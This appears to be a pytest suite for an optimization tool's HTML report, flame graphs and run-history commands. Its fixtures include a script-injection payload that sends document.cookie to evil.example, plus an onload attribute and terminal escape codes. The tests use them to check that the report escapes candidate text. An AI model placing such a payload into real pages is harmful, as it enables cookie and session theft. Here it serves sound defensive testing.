"""report.html (optimizer/report/html.py), its charts and flame graphs, and the history of
runs (report/history.py) with `optimize show` and `optimize runs`. The page is rendered
from a report built by the engine's own records; one test opens it in headless Chromium."""
import base64
import json
import re
import shutil
import subprocess
import textwrap
from collections import Counter
from pathlib import Path

import pytest

from optimizer.cli import main
from optimizer.model import Candidate, Hotspot, Kept, Measurement, Outcome, Report, Target, TargetResult
from optimizer.report import history
from optimizer.report.flame import flame_svg, target_frames
from optimizer.report.html import render_html, write_html
from profilers.flame import collapsed, parse_collapsed
from profilers.sampling import Profile

SOURCE = textwrap.dedent('''\
    def unique_ordered(items):
        seen = []
        out = []
        for item in items:
            if item not in seen:
                seen.append(item)
                out.append(item)
        return out
''')
FAST = SOURCE.replace("seen = []", "seen = set()").replace("seen.append(item)", "seen.add(item)")
HOSTILE = "</pre><script>fetch('https://evil.example/?'+document.cookie)</script><img src=http://evil.example/x>"
EXTERNAL = re.compile(r"^\s*(?:[a-z][a-z0-9+.-]*:|//)", re.IGNORECASE)   # any scheme but data:, or //host


def references(markup: str) -> list[str]:
    """Every URL the markup's real elements refer to (attributes, and url()/@import in styles)."""
    from html.parser import HTMLParser

    found = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            for name, value in attrs:
                if name in ("src", "href", "xlink:href", "action", "formaction", "poster", "background", "srcset"):
                    found.append(value or "")
                if name == "style":
                    found.extend(re.findall(r"url\(\s*['\"]?([^'\")]*)", value or ""))

        def handle_data(self, data):
            if self.lasttag == "style":
                found.extend(re.findall(r"url\(\s*['\"]?([^'\")]*)", data))
                found.extend("@import" for _ in re.findall(r"@import", data))

    Collect().feed(markup)
    return found


def external(markup: str) -> list[str]:
    return [u for u in references(markup) if u == "@import" or (EXTERNAL.match(u) and not u.startswith("data:"))]


def target() -> Target:
    return Target("pkg/core.py", "pkg.core", "unique_ordered", 4, 11, 0, 0, SOURCE, "")


def workspace_profile(root: Path) -> Profile:
    """Stacks as py-spy reports them: pytest's frames from site-packages, the target in the workspace."""
    site = "/usr/lib/python3/site-packages"
    runner = ("main", f"{site}/pytest/__init__.py", 5), ("call", f"{site}/pluggy/_hooks.py", 9)
    test = ("test_big", f"{root}/tests/test_core.py", 3)
    hot = ("unique_ordered", f"{root}/pkg/core.py", 8)
    stacks = Counter({runner + (test, hot): 700, runner + (test,): 100, runner: 195,
                      runner + (("tiny", f"{site}/other/mod.py", 1),): 1,   # 0.1%: folded into its parent
                      runner + (("helper", f"{root}/pkg/util.py", 2),): 1,  # 0.1% but the repository's: kept
                      (("<module>", "<frozen importlib._bootstrap>", 1),): 3})
    return Profile(stacks, "py-spy", 1.5)


def sample_report(root: Path) -> dict:
    t = target()
    kept_m = Measurement(3.1, (2.9, 3.3), 0.031, 0.01, 12, "4 captured calls", peak_bytes=(12424, 43904),
                         metric="cpu time", wall=(3.0, 2.8, 3.2), instructions=3.4)
    kept = Outcome(Candidate(t, "pattern:list-as-set", FAST, note="Membership in a set is O(1). Unsafe when the "
                                                                   "items are unhashable."),
                   "kept", "faster: 3.10x [2.90, 3.30] cpu time; verified: 4 tests passed", kept_m,
                   evidence={"level": "proven on reached paths", "tests": {"run": 4, "passed": 4},
                             "calls": {"captured": 4, "generated": 34, "mutated": 27},
                             "blocks": {"reached": 5, "countable": 5}})
    bad = Outcome(Candidate(t, "openai/gpt-4.1", SOURCE.replace("out = []", f"out = []  # {HOSTILE}")
                                                 .replace("return out", 'print("\x1b[2J\x1b[31m")\n    return out')),
                  "rejected", f"not faster: 0.98x [0.95, 1.01] cpu time {HOSTILE}",
                  Measurement(0.98, (0.95, 1.01), 0.031, 0.032, 12), trace=HOSTILE, stage="measure")
    wrong = Outcome(Candidate(t, "pattern:sorted-set", "def unique_ordered(items):\n    return sorted(set(items))\n"),
                    "rejected", "behaves differently on captured call #2", stage="equivalence")
    report = Report(repo=str(root), model="openai/gpt-4.1", status="completed", sandbox="bwrap",
                    meta={"tool_version": "0.1.0", "git_revision": "ab" * 20, "python": "3.11.7",
                          "started": "2026-12-01T08:00:00+00:00", "duration_s": 42.5,
                          "settings": {"min_speedup": 1.05, "bench": None, "candidates": 4}})
    report.hotspots = [Hotspot("pkg.core.unique_ordered", "pkg/core.py", 4, 0.7), Hotspot("pkg.util.helper",
                                                                                         "pkg/util.py", 1, 0.001)]
    report.profiles["before"] = collapsed(workspace_profile(root), root)
    report.profiles["after"] = collapsed(Profile(Counter({k: (v // 4 if k[-1][0] == "unique_ordered" else v)
                                                          for k, v in workspace_profile(root).stacks.items()}),
                                                 "py-spy", 0.9), root)
    report.add(TargetResult(t, (bad, wrong, kept), kept, FAST, SOURCE,
                            calibration=Measurement(1.01, (0.97, 1.04), 0.03, 0.03, 12),
                            line_shares={8: 0.625, 9: 0.25, 5: 0.125}))
    report.kept.append(Kept(t, kept.candidate, kept_m, kept.diff(), "optimize/unique_ordered", "/x/p.patch"))
    report.llm.calls, report.llm.prompt_tokens, report.llm.completion_tokens, report.llm.cost_usd = 3, 4100, 900, 0.0123
    return json.loads(json.dumps(report.to_json()))


def test_the_page_shows_the_runs_figures_diffs_and_intervals(tmp_path):
    data = sample_report(tmp_path)
    page = render_html(data)
    for shown in ("3.10x", "[2.90, 3.30]",                       # the kept speedup and its interval
                  "wall time 3.00x [2.80, 3.20]", "instructions 3.40x",
                  "keep threshold", "1.05x", "[0.97, 1.04]",       # the threshold, the A/A noise interval
                  "0.98x [0.95, 1.01]",                            # a rejected candidate's figures
                  "behaves differently on captured call #2",       # every candidate's reason
                  "Membership in a set is O(1).",                  # why it is faster
                  "Unsafe when the items are unhashable.",         # its caveat
                  "4 of 4 passed", "4 captured, 34 generated, 27 mutated calls", "5 of 5 blocks",
                  "before 12.1 KiB", "after 42.9 KiB",             # memory
                  "62.5%", "25.0%",                                # the line profile
                  "3 call(s), 4100 prompt + 900 completion tokens", "$0.0123",
                  "ab" * 20, "Python 3.11.7", "bwrap", "42.5 s", "2026-12-01T08:00:00+00:00"):
        assert shown in page, shown
    assert page.count('<tr class="del">') >= 2 and page.count('<tr class="add">') >= 2   # the kept diff, marked
    assert "seen.add" in re.sub(r"<[^>]+>", "", page)
    assert page.count('<img class="chart"') == 2   # the hotspots and the target's speedups
    assert page.count('<svg class="flame"') == 2   # before and after


def test_the_page_loads_nothing_and_runs_no_candidate_text(tmp_path):
    page = render_html(sample_report(tmp_path))
    assert "<script" not in page.lower() and "&lt;script&gt;" in page
    assert "\x1b" not in page and "\\x1b[2J\\x1b[31m" in page   # a terminal escape in the code is shown, not sent
    assert "evil.example" in page   # shown, as text
    assert not external(page) and len(references(page)) == 2   # the two charts' data: URIs
    assert "default-src 'none'" in page   # the browser is told too
    for uri in re.findall(r'src="data:image/svg\+xml;base64,([^"]+)"', page):
        svg = base64.b64decode(uri).decode()
        assert "<svg" in svg and not external(svg) and "<script" not in svg and "<!DOCTYPE" not in svg
    assert len(page) < 1_000_000


def test_an_older_report_without_profiles_or_targets_still_renders():
    data = {"repo": "/x/r", "status": "completed", "candidates": [
        {"target": "pkg.f", "origin": "pattern:p", "step": "r1/optimize", "status": "kept", "reason": "faster",
         "speedup": 2.0, "ci": [1.9, 2.1], "diff": "--- a\n+++ b\n@@ -1 +1 @@\n-x\n+y\n"}], "kept": []}
    page = render_html(data)
    assert "pkg.f" in page and "2.00x [1.90, 2.10]" in page and "was not profiled" in page


def test_collapsed_stacks_are_relative_pruned_and_keep_the_repositorys_frames(tmp_path):
    flame = collapsed(workspace_profile(tmp_path), tmp_path)
    assert flame["samples"] == 1000 and flame["tool"] == "py-spy" and flame["seconds"] == 1.5
    stacks = dict((";".join(f), n) for f, n in parse_collapsed(flame["stacks"]))
    hot = "main (pytest/__init__.py);call (pluggy/_hooks.py);test_big (tests/test_core.py);unique_ordered (pkg/core.py)"
    assert stacks[hot] == 700
    assert stacks["main (pytest/__init__.py);call (pluggy/_hooks.py)"] == 196   # 195 + the folded "tiny"
    assert stacks["main (pytest/__init__.py);call (pluggy/_hooks.py);helper (pkg/util.py)"] == 1
    assert not any("tiny" in s or str(tmp_path) in s for s in flame["stacks"])
    assert set(flame["own_files"]) == {"pkg/core.py", "pkg/util.py", "tests/test_core.py"}
    assert stacks["(other stacks)"] == 3   # a stack too small to show on its own, at the root
    assert sum(stacks.values()) == 1000   # nothing lost by folding
    from optimizer.verify.runs import BOOTSTRAP

    sampler = Profile(Counter({(("flush", str(BOOTSTRAP / "sitecustomize.py"), 9),): 5,
                               (("main", str(tmp_path / "bench.py"), 1),): 5}), "sampler", 0.1)
    assert collapsed(sampler, tmp_path)["stacks"] == ["main (bench.py) 5"]   # the sampler's own frames are not shown
    boot = "<frozen importlib._bootstrap>"
    importing = Profile(Counter({(("<module>", str(tmp_path / "bench.py"), 1), ("_find_and_load", boot, 1),
                                  ("_load_unlocked", boot, 2), ("exec_module", "<frozen importlib._bootstrap_external>", 3),
                                  ("<module>", "/usr/lib/python3.11/pathlib.py", 1), ("_find_and_load", boot, 1),
                                  ("<module>", "/usr/lib/python3.11/fnmatch.py", 1)): 4}), "py-spy", 0.1)
    assert collapsed(importing, tmp_path)["stacks"] == [   # the import system's frames: one box per import
        "<module> (bench.py);(importing);<module> (pathlib.py);(importing);<module> (fnmatch.py) 4"]
    start_up = Profile(Counter({(("_find_and_load", boot, 1), ("<module>", "<frozen site>", 1), ("main", "<frozen site>", 9),
                                 ("<module>", "/venv/lib/python3.11/site-packages/__editable___x_finder.py", 1)): 7}),
                       "py-spy", 0.1)
    assert collapsed(start_up, tmp_path)["stacks"] == ["(interpreter start-up) 7"]


def test_the_flame_graph_marks_the_targets_and_escapes_names(tmp_path):
    flame = collapsed(workspace_profile(tmp_path), tmp_path)
    flame["stacks"].append('<b onload="x()">;evil</b> 1')
    svg = flame_svg(flame, target_frames({"pkg.core.unique_ordered": {"file": "pkg/core.py",
                                                                        "qualname": "unique_ordered"}}), "Before")
    assert svg.count("<rect") >= 5 and 'fill="#e74c3c"' in svg   # the target in red
    assert "<title>unique_ordered (pkg/core.py): 700 samples, 69.9%</title>" in svg   # of 1001, with the line added
    assert "<b onload" not in svg and "&lt;b onload" in svg
    assert flame_svg({"stacks": []}, set(), "empty") == ""


# -- history, show, runs ------------------------------------------------------------------
def write_run(folder: Path, data: dict) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "report.json"
    path.write_text(json.dumps(data))
    return path


def test_history_indexes_runs_written_anywhere_and_filters_them(tmp_path, capsys):
    data = sample_report(tmp_path / "repo")
    elsewhere = write_run(tmp_path / "somewhere", data)   # as with --json / --out
    history.record_run(elsewhere, data)
    other = dict(data, repo=str(tmp_path / "other"), kept=[], targets={}, candidates=[],
                 meta=dict(data["meta"], started="2026-12-01T09:00:00+00:00"))
    history.record_run(write_run(tmp_path / "second", other), other)
    rows = history.runs()
    assert [r.repo for r in rows] == [str(tmp_path / "other"), str(tmp_path / "repo")]   # newest first
    [row] = history.runs(target="unique_ordered")
    assert row.report == str(elsewhere) and row.cost_usd == 0.0123 and row.calls == 3
    assert [(t.target, t.fate, t.speedup, t.ci) for t in row.targets] == [
        ("pkg.core.unique_ordered", "kept", 3.1, (2.9, 3.3))]
    assert history.runs(target="core.unique_ordered") and not history.runs(target="ordered")
    assert history.runs(repo=str(tmp_path / "other"), limit=5)[0].targets == []
    history.record_run(elsewhere, data)   # the same report again: one row, not two
    assert len(history.runs()) == 2

    assert main(["runs", str(tmp_path / "repo")]) == 0
    out = capsys.readouterr().out
    assert "pkg.core.unique_ordered 3.10x (1 target)" in out and "$0.0123" in out and "abababababab" in out
    assert str(tmp_path / "other") not in out
    assert main(["runs", "--target", "nothing_like_it"]) == 0
    assert capsys.readouterr().out.strip() == "no runs of nothing_like_it"
    assert main(["runs", "--json"]) == 0 and len(json.loads(capsys.readouterr().out)) == 2
    shutil.rmtree(tmp_path / "second")   # history survives the folder
    assert main(["runs", "--limit", "1"]) == 0 and "(report deleted)" in capsys.readouterr().out


def test_show_finds_the_last_run_and_writes_its_html(tmp_path, capsys):
    data = sample_report(tmp_path / "repo")
    path = write_run(tmp_path / "out", data)
    history.record_run(path, data)
    assert main(["show"]) == 0 and "kept pkg.core.unique_ordered: 3.10x" in capsys.readouterr().out
    assert main(["show", "--html"]) == 0
    html = Path(capsys.readouterr().out.strip())
    assert html == tmp_path / "out" / "report.html" and "3.10x" in html.read_text()
    assert main(["show", str(tmp_path / "out")]) == 0 and f"HTML: {html}" in capsys.readouterr().out
    assert main(["show", str(path), "--json"]) == 0 and json.loads(capsys.readouterr().out)["kept"]
    (tmp_path / "junk.json").write_text("[1, 2]")
    assert main(["show", str(tmp_path / "junk.json")]) == 2
    assert "not a report of optimize run" in capsys.readouterr().err


def test_the_runs_folder_is_backfilled_into_the_history(capsys):
    from optimizer.home import runs_dir

    data = {"repo": "/x/r", "status": "completed", "meta": {"started": "2026-11-30T12:00:00+00:00"},
            "candidates": [], "kept": []}
    write_run(runs_dir() / "r-old", data)
    failed = runs_dir() / "r-failed"
    failed.mkdir(parents=True)
    (failed / "error.log").write_text("Traceback ...\n")
    assert main(["runs"]) == 0
    out = capsys.readouterr().out
    assert "completed" in out and "/x/r@no git" in out and f"failed: see {failed / 'error.log'}" in out
    assert history.backfill() == 0   # known now


# -- a real browser ---------------------------------------------------------------------------
def _browser() -> str | None:
    return next((shutil.which(n) for n in ("chromium", "chromium-browser", "google-chrome") if shutil.which(n)), None)


@pytest.mark.slow
def test_headless_chromium_renders_the_page_with_its_charts(tmp_path):
    browser = _browser()
    if browser is None:
        pytest.skip("no Chromium on this machine (.ci/run installs the distribution's chromium package; "
                    "apt-get install -y chromium)")
    from PIL import Image

    page = write_html(sample_report(tmp_path), tmp_path / "report.html")
    shot = tmp_path / "shot.png"
    r = subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars",
                        "--window-size=1200,2600", f"--screenshot={shot}", page.as_uri()],
                       capture_output=True, text=True, timeout=120)
    assert shot.is_file(), r.stderr[-2000:]
    image = Image.open(shot).convert("RGB")
    colors = Counter(image.get_flattened_data())
    assert len(colors) > 200                       # text, highlighting, charts: not a blank page
    assert colors[(255, 255, 255)] < 0.97 * image.width * image.height

    def near(rgb, tolerance=12):
        return sum(n for c, n in colors.items() if all(abs(a - b) <= tolerance for a, b in zip(c, rgb)))

    assert near((0xc0, 0x39, 0x2b)) > 500      # the hotspot bars (a data: SVG image)
    assert near((0xe7, 0x4c, 0x3c)) > 500      # the target's boxes in the flame graphs (inline SVG)
    assert near((0xf5, 0xcb, 0xa7)) > 100      # the A/A noise band of the speedup chart
    assert near((0xe9, 0xf7, 0xef), 2) > 2000  # the kept diff's added lines


def test_a_page_that_cannot_be_written_loses_neither_the_json_nor_the_history(tmp_path, monkeypatch):
    from optimizer import cli
    from optimizer.report import html

    class Notes:
        said: list = []

        def note(self, text):
            self.said.append(text)

    report = Report(repo=str(tmp_path), model=None, status="completed", meta={"started": "2026-12-01T10:00:00+00:00"})
    monkeypatch.setattr(html, "render_html", lambda data: 1 / 0)
    view = Notes()
    assert cli._write_reports(report, [tmp_path / "r.json"], view) is None
    assert json.loads((tmp_path / "r.json").read_text())["status"] == "completed"
    assert view.said == ["report.html not written: ZeroDivisionError: division by zero"]
    assert [r.report for r in history.runs()] == [str(tmp_path / "r.json")]
    assert not (tmp_path / "r.html").exists() and not list(tmp_path.glob("*.tmp"))


def test_code_is_highlighted_as_a_whole_and_diffs_count_the_files_lines():
    from optimizer.report.html import diff_html, highlighted_lines

    lines = highlighted_lines('def f(x):\n    """Use `x` if\n    not None."""\n    return None\n')
    assert len(lines) == 5 and '<span class="sd">    not None.&quot;&quot;&quot;</span>' in lines[2]
    assert 'class="err"' not in "".join(lines) and '<span class="kc">None</span>' in lines[3]
    page = diff_html('--- a\n+++ b\n@@ -1,3 +1,3 @@\n def f(x):\n-    """old\n+    """new\n     doc"""\n', shift=9)
    assert "@@ -10,3 +10,3 @@" in page
    assert page.count('class="sd"') == 3   # the docstring's lines on both sides


def test_a_reader_that_stops_early_gets_no_error(tmp_path):
    import os
    import sys

    path = write_run(tmp_path / "big", {"repo": "/x/r", "status": "completed", "candidates": [], "kept": [],
                                        "notes": [f"note {i} " + "x" * 200 for i in range(2000)]})
    r = subprocess.run(["bash", "-c", f"set -o pipefail; {sys.executable} -m optimizer show {path} --json | head -c 10"],
                       capture_output=True, text=True, timeout=60, env=os.environ)
    assert r.returncode == 0 and r.stdout == '{\n  "repo":'[:10] and r.stderr == ""
